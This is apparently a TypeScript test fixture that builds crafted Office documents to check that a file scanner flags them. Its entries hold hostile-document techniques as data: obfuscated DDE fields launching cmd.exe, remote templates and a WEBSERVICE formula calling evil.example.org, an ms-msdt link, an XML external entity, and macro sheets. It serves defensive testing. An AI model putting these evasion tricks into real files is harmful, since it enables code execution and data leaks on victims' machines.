import { compoundFile } from './compoundFile.ts';
import { officeEntries } from './officeFile.ts';
import { pdfFile } from './pdfFile.ts';
import { interaction, record, slidesFile } from './slidesFile.ts';
import { wordFile, wordStreams } from './wordFile.ts';
import { biff, linkedBook, workbookFile } from './workbookFile.ts';
import { type ZipEntry, zipFile } from './zipFile.ts';

type Crafted = readonly [what: string, name: string, bytes: () => Buffer, message: string];

const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const COMPATIBILITY = 'http://schemas.openxmlformats.org/markup-compatibility/2006';

/** A document with more entries. */
export function officeWith(extension: string, ...entries: ZipEntry[]): Buffer {
  const names = new Set(entries.map(({ name }) => name));
  return zipFile([...officeEntries(extension).filter(({ name }) => !names.has(name)), ...entries]);
}

/** A letter with that body; `declarations` are its namespaces. */
export function letter(body: string, declarations = ''): Buffer {
  return officeWith('.docx', {
    name: 'word/document.xml',
    content: `<w:document xmlns:w="${WORD}" ${declarations}><w:body><w:p>${body}</w:p></w:body></w:document>`,
  });
}

export const run = (content: string) => `<w:r>${content}</w:r>`;
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
/** A field whose instruction is in several runs. */
export const field = (...codes: string[]) =>
  mark('begin') + codes.map(code).join('') + mark('separate') + run('<w:t>1</w:t>') + mark('end');

/** A document with a relationship; `attributes` are those of the relationship as they are written. */
export function related(extension: string, part: string, attributes: string): Buffer {
  const name = part.replace(/[^/]+$/, '_rels/$&.rels');
  const content = `<Relationships xmlns="${RELATIONS}"><Relationship Id="rId9" ${attributes}/></Relationships>`;
  return officeWith(extension, { name, content });
}

const external = (kind: string, target: string) =>
  `Type="${OFFICE}/${kind}" Target="${target}" TargetMode="External"`;
const toWord = (attributes: string) => () => related('.docx', 'word/document.xml', attributes);

function sheet(content: string): Buffer {
  return officeWith('.xlsx', {
    name: 'xl/worksheets/sheet1.xml',
    content: `<worksheet xmlns="${SHEET}"><sheetData><row><c>${content}</c></row></sheetData></worksheet>`,
  });
}

function slide(content: string): Buffer {
  return officeWith('.pptx', {
    name: 'ppt/slides/slide1.xml',
    content: `<sld xmlns:r="${OFFICE}">${content}</sld>`,
  });
}

const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';

/** Documents whose harm is hidden from a search for words, or was not searched: what, name, bytes, and the message's id. */
export const CRAFTED_OFFICE: readonly Crafted[] = [
  [
    'a remote template whose mode has an escaped letter',
    'a.docx',
    toWord(
      `Type="${OFFICE}/attachedTemplate" Target="https://evil.example.org/a.dotm" TargetMode="&#69;xternal"`,
    ),
    'fileRemote',
  ],
  [
    'a template at file:////',
    'a.docx',
    toWord(external('attachedTemplate', 'file:////evil/a.dotm')),
    'fileRemote',
  ],
  [
    'a template at file://',
    'a.docx',
    toWord(external('attachedTemplate', 'file://evil/a.dotm')),
    'fileRemote',
  ],
  [
    'a template on an encoded share',
    'a.docx',
    toWord(external('attachedTemplate', 'file:///%5C%5Cevil\\a.dotm')),
    'fileRemote',
  ],
  [
    'a template with blanks before it',
    'a.docx',
    toWord(external('attachedTemplate', ' &#9;//evil/a')),
    'fileRemote',
  ],
  [
    'a picture on the Internet',
    'a.docx',
    toWord(external('image', 'https://evil.example.org/a.png')),
    'fileRemote',
  ],
  [
    'a picture without a mode',
    'a.docx',
    toWord(`Type="${OFFICE}/image" Target="\\\\evil\\a.png"`),
    'fileRemote',
  ],
  ['a linked object', 'a.docx', toWord(external('oleObject', 'C:\\a.xlsx')), 'fileRemote'],
  ['a frame', 'a.docx', toWord(external('frame', 'a.htm')), 'fileRemote'],
  ['data for mails', 'a.docx', toWord(external('mailMergeSource', 'file:///C:\\a.mdb')), 'fileRemote'],
  ['a link to a program', 'a.docx', toWord(external('hyperlink', 'ms-msdt:/id PCWDiagnostic')), 'fileRemote'],
  ['a link to a share', 'a.docx', toWord(external('hyperlink', 'file://evil/share')), 'fileRemote'],
  ['a link to a script', 'a.docx', toWord(external('hyperlink', 'java&#10;script:alert(1)')), 'fileRemote'],
  [
    'a relationship of an unknown kind',
    'a.docx',
    toWord(`Type="${OFFICE}/newKind" Target="a.xml"`),
    'fileEmbedded',
  ],
  [
    'two types of a relationship',
    'a.docx',
    toWord(
      `xmlns:x="x" x:Type="${OFFICE}/hyperlink" ${external('attachedTemplate', 'https://evil.example.org/')}`,
    ),
    'fileDocument',
  ],
  [
    'an embedded object',
    'a.docx',
    toWord(`Type="${OFFICE}/oleObject" Target="embeddings/a.bin"`),
    'fileEmbedded',
  ],
  ['a control', 'a.docx', toWord(`Type="${OFFICE}/control" Target="activeX/a.xml"`), 'fileEmbedded'],
  [
    'a control without a relationship',
    'a.docx',
    () => officeWith('.docx', { name: 'word/activeX/a.xml', content: '<ax:ocx xmlns:ax="a"/>' }),
    'fileEmbedded',
  ],
  [
    'another document as a chunk',
    'a.docx',
    () => letter('<w:altChunk r:id="rId9"/>', 'xmlns:r="r"'),
    'fileEmbedded',
  ],
  [
    'a chunk by its relationship',
    'a.docx',
    toWord(`Type="${OFFICE}/aFChunk" Target="a.htm"`),
    'fileEmbedded',
  ],
  ['a program by DDE', 'a.docx', () => letter(field(DDE)), 'fileRemote'],
  ['DDE in pieces', 'a.docx', () => letter(field('DD', 'EAU', 'TO c:\\\\a.exe')), 'fileRemote'],
  ['DDE in a simple field', 'a.docx', () => letter(`<w:fldSimple w:instr="&#68;DEAUTO a b"/>`), 'fileRemote'],
  ['DDE in character data', 'a.docx', () => letter(field('D<![CDATA[DEAUTO]]> a')), 'fileRemote'],
  ['DDE without an end', 'a.docx', () => letter(mark('begin') + code(DDE)), 'fileRemote'],
  [
    'DDE in text',
    'a.docx',
    () => letter(mark('begin') + run(`<w:t>${DDE}</w:t>`) + mark('end')),
    'fileRemote',
  ],
  [
    'DDE in a deleted field',
    'a.docx',
    () => letter(field(DDE).replaceAll('instrText', 'delInstrText')),
    'fileRemote',
  ],
  [
    'a type that another field makes',
    'a.docx',
    () => letter(mark('begin') + field('QUOTE 68 68 69') + mark('end')),
    'fileRemote',
  ],
  [
    'DDE behind an element that Word skips',
    'a.docx',
    () => letter(`${mark('begin')}<x:a>${code('ADDIN ')}</x:a>${code(DDE)}${mark('end')}`, 'xmlns:x="x"'),
    'fileRemote',
  ],
  [
    'DDE in one of two alternatives',
    'a.docx',
    () =>
      letter(
        `${mark('begin')}<mc:AlternateContent><mc:Choice Requires="x">${code('PAGE ')}</mc:Choice><mc:Fallback>${code(DDE)}</mc:Fallback></mc:AlternateContent>${mark('end')}`,
        `xmlns:mc="${COMPATIBILITY}" xmlns:x="x"`,
      ),
    'fileRemote',
  ],
  ['a macro behind a button', 'a.docx', () => letter(field('MACROBUTTON Run here')), 'fileMacros'],
  [
    'a picture in a field',
    'a.docx',
    () => letter(field('INCLUDEPICTURE "https://evil.example.org/a.png" \\d')),
    'fileRemote',
  ],
  ['text of another document', 'a.docx', () => letter(field('INCLUDETEXT "c:\\\\a.docx"')), 'fileRemote'],
  ['a link in a field', 'a.docx', () => letter(field('HYPERLINK "\\\\\\\\evil\\\\share"')), 'fileRemote'],
  [
    'a drawing with a remote picture',
    'a.docx',
    () =>
      officeWith('.docx', {
        name: 'word/a.vml',
        content: '<xml><br><v:fill xmlns:v="v" src="//evil/a.png"/></xml>',
      }),
    'fileRemote',
  ],
  [
    'a film of a site',
    'a.docx',
    () => letter('<x:webVideoPr xmlns:x="x" embeddedHtml="&lt;script&gt;"/>'),
    'fileRemote',
  ],
  [
    'an entity',
    'a.docx',
    () =>
      officeWith('.docx', {
        name: 'word/document.xml',
        content: '<!DOCTYPE a [<!ENTITY e SYSTEM "//evil/a">]><a>&e;</a>',
      }),
    'fileDocument',
  ],
  ['XML that is not well-formed', 'a.docx', () => letter('<w:r>'), 'fileDocument'],
  [
    'XML in another encoding',
    'a.docx',
    () =>
      officeWith('.docx', {
        name: 'word/document.xml',
        content: '<?xml version="1.0" encoding="UTF-7"?><a/>',
      }),
    'fileDocument',
  ],
  [
    'a part that is no XML',
    'a.docx',
    () => officeWith('.docx', { name: 'word/document.xml', content: Buffer.from([0x4c, 0x6f, 0xa7, 0x94]) }),
    'fileDocument',
  ],
  [
    'DDE in UTF-16',
    'a.docx',
    () =>
      officeWith('.docx', {
        name: 'word/document.xml',
        content: Buffer.from(
          `\ufeff<w:fldSimple xmlns:w="${WORD}" w:instr="${DDE.replaceAll('"', '')}"/>`,
          'utf16le',
        ),
      }),
    'fileRemote',
  ],
  [
    'a script in an embedded PDF',
    'a.docx',
    () =>
      officeWith('.docx', {
        name: 'word/media/image1.pdf',
        content: pdfFile({ catalog: '/OpenAction << /S /JavaScript /JS (1) >>' }),
      }),
    'filePdfActions',
  ],

  [
    'a program by DDE',
    'a.xlsx',
    () =>
      officeWith('.xlsx', {
        name: 'xl/externalLinks/a.xml',
        content: `<externalLink xmlns="${SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      }),
    'fileRemote',
  ],
  ['DDE in a formula', 'a.xlsx', () => sheet("<f>cmd|'/c calc'!A0</f>"), 'fileRemote'],
  ['DDE behind a comment', 'a.xlsx', () => sheet("<f>cmd<!-- -->|'/c calc'!A0</f>"), 'fileRemote'],
  [
    'a formula that asks a site',
    'a.xlsx',
    () => sheet('<f>_xlfn.WEB<a/>SERVICE("https://evil.example.org/"&amp;A1)</f>'),
    'fileRemote',
  ],
  ['a formula with a share', 'a.xlsx', () => sheet("<f>'\\\\evil\\[a.xlsx]A'!A1</f>"), 'fileRemote'],
  [
    'a connection',
    'a.xlsx',
    () => related('.xlsx', 'xl/workbook.xml', `Type="${OFFICE}/connections" Target="connections.xml"`),
    'fileRemote',
  ],
  [
    'a workbook on the Internet',
    'a.xlsx',
    () =>
      related(
        '.xlsx',
        'xl/externalLinks/a.xml',
        external('externalLinkPath', 'https://evil.example.org/a.xlsx'),
      ),
    'fileRemote',
  ],
  [
    'a sheet of macros',
    'a.xlsx',
    () => officeWith('.xlsx', { name: 'xl/sheet.xml', content: '<xm:macrosheet xmlns:xm="m"/>' }),
    'fileMacros',
  ],
  [
    'a sheet of macros by its relationship',
    'a.xlsx',
    () =>
      related(
        '.xlsx',
        'xl/workbook.xml',
        'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="a.xml"',
      ),
    'fileMacros',
  ],
  [
    'a click that runs a program',
    'a.pptx',
    () => slide('<hlinkClick r:id="rId1" action="ppaction://program"/>'),
    'fileEmbedded',
  ],
  ['a link under the pointer', 'a.pptx', () => slide('<hlinkHover r:id="rId1"/>'), 'fileEmbedded'],
  [
    'a program under the pointer',
    'a.pptx',
    () => slide('<hlinkMouseOver r:id="" action="ppaction://program"/>'),
    'fileEmbedded',
  ],
  [
    'an add-in',
    'a.pptx',
    () =>
      related(
        '.pptx',
        'ppt/presentation.xml',
        'Type="http://schemas.microsoft.com/office/2011/relationships/webextension" Target="a.xml"',
      ),
    'fileRemote',
  ],

  ['a program by DDE', 'a.doc', () => wordFile(`Bonjour \x13 ${DDE} \x14 \x15`), 'fileRemote'],
  [
    'a type that another field makes',
    'a.doc',
    () => wordFile('\x13 \x13 QUOTE 68 68 69 \x14DDE\x15 a \x15'),
    'fileRemote',
  ],
  ['a template on a share', 'a.doc', () => wordFile('Bonjour', '\\\\evil\\a.dot'), 'fileRemote'],
  [
    'an equation',
    'a.doc',
    () => wordFile('Bonjour', '', { 'ObjectPool/_1/Equation Native': Buffer.from('x') }),
    'fileEmbedded',
  ],
  [
    'an object of another program',
    'a.doc',
    () => wordFile('Bonjour', '', { 'ObjectPool/_1/Contents': Buffer.from('x') }),
    'fileEmbedded',
  ],
  [
    'text that is not there',
    'a.doc',
    () =>
      compoundFile({
        WordDocument: wordStreams('Bonjour').main.subarray(0, 1000),
        '1Table': wordStreams('Bonjour').table,
      }),
    'fileDocument',
  ],
  ['no table', 'a.doc', () => compoundFile({ WordDocument: wordStreams('Bonjour').main }), 'fileDocument'],
  ['a sheet of macros', 'a.xls', () => workbookFile([], 1), 'fileMacros'],
  ['a program by DDE', 'a.xls', () => workbookFile([linkedBook('cmd\x03/c calc')]), 'fileRemote'],
  [
    'a workbook on a share',
    'a.xls',
    () => workbookFile([linkedBook('\x01\x01@evil\x03a.xls')]),
    'fileRemote',
  ],
  ['a connection', 'a.xls', () => workbookFile([biff(0x0876, Buffer.alloc(20))]), 'fileRemote'],
  ['a password', 'a.xls', () => workbookFile([biff(0x2f, Buffer.alloc(6))]), 'filePassword'],
  ['a record that is cut off', 'a.xls', () => workbookFile([Buffer.from('ff00ffff', 'hex')]), 'fileDocument'],
  ['a click that runs a program', 'a.ppt', () => slidesFile([interaction(2)]), 'fileEmbedded'],
  [
    'an object that only the directory names',
    'a.ppt',
    () => slidesFile([], record(0x1011, Buffer.alloc(9))),
    'fileEmbedded',
  ],
  [
    'macros',
    'a.ppt',
    () => slidesFile([record(0x03ff, record(0x0400, Buffer.from('000000000100000002000000', 'hex')), true)]),
    'fileMacros',
  ],
  [
    'an edit that is not there',
    'a.ppt',
    () => compoundFile({ 'PowerPoint Document': record(0x03e8, Buffer.alloc(0), true) }),
    'fileDocument',
  ],
];
